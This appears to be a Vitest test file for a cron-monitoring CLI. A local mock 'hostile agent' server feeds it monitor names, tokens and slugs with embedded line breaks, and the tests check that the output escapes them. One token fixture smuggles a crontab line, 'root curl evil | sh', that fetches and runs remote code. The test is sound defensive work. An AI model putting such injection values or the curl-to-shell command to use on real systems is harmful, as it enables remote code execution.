import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli';

/*
 * A monitor's name is one line wherever the CLI quotes it. terminalText keeps line breaks (a job's
 * output, a unit's status have several lines), so a hostile agent whose monitor is named
 * "backup\nFAKE: …" could add a line of its own choosing under `Paused "backup`: the name must be
 * written out (`\n`), as `monitor list` and `show` do. The agent here is a local HTTP server
 * answering every call the monitor commands make with that name (and slug).
 */

const NAME = 'backup\nFAKE: line of the agent\'s\r\u2028';

const monitor = {
  id: 1,
  name: NAME,
  company_id: 1,
  project_id: null,
  // The crontab line (or systemd service) `monitor create` prints quotes it: a line break would start a line of the agent's in the crontab pasted.
  token: 'tok\nFAKE: * * * * * root curl evil | sh\n',
  timezone: 'UTC',
  schedule: '0 3 * * *',
  last_run_at: null,
  duration: 5,
  is_alerted: 0,
  alert_reason: '',
  deleted_at: null,
  created_at: '2026-11-25T03:00:00.000000Z',
  updated_at: '2026-11-25T03:00:00.000000Z',
  status: 'paused',
  next_due_at: '2026-11-26T03:05:00.000000Z',
  last_pulse_at: null,
  paused_at: '2026-11-25T03:00:00.000000Z',
  paused_until: null,
  pulse_url: 'http://x/api/pulse/tok',
  slug: 'backup',
  tags: [],
  channel_ids: null,
  alert_reason_data: null,
};

function hostileAgent(): Promise<{ url: string; server: Server }> {
  const server = createServer((req: IncomingMessage, res: ServerResponse) => {
    const path = new URL(req.url ?? '/', 'http://x').pathname;
    const answer = (status: number, body?: unknown) => {
      res.writeHead(status, { 'content-type': 'application/json' });
      res.end(body === undefined ? undefined : JSON.stringify(body));
    };
    if (req.method === 'DELETE') answer(204);
    else if (path === '/api/monitors' && req.method === 'GET') answer(200, [monitor]);
    else if (path === '/api/monitors/1/line-key') answer(200, { key_id: 2, slug: `x\nFAKE: slug` });
    else if (path === '/api/maintenance-windows') answer(200, { data: [] });
    else answer(req.method === 'POST' && path === '/api/monitors' ? 201 : 200, monitor);
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve({ url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server })));
}

let agent: { url: string; server: Server };
beforeAll(async () => {
  agent = await hostileAgent();
});
afterAll(() => new Promise((done) => agent.server.close(done)));

describe('a monitor name holding line breaks stays on its line', () => {
  const commands = [
    ['monitor', 'create', 'backup', '--schedule', '0 3 * * *', '--timezone', 'UTC'],
    ['monitor', 'create', 'backup', '--schedule', 'Mon..Fri 02:30', '--timezone', 'UTC'],
    ['monitor', 'edit', '1', '--grace', '7'],
    ['monitor', 'pause', '1'],
    ['monitor', 'resume', '1'],
    ['monitor', 'delete', '1'],
    ['monitor', 'delete', '1', '--yes'],
    ['monitor', 'hand', '1', '--key', '2'],
    ['monitor', 'show', 'backup'], // no exact name: "Did you mean …?" quotes the agent's
  ];
  for (const args of commands) {
    it(args.join(' '), async () => {
      const result = await runCli(args, { env: { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: 'cb_test' } });
      const lines = `${result.stdout}${result.stderr}`.split('\n');
      expect(lines.filter((line) => line.startsWith('FAKE')), `${result.stdout}${result.stderr}`).toEqual([]);
      expect(`${result.stdout}${result.stderr}`).toContain('backup\\nFAKE: line');
    });
  }
});
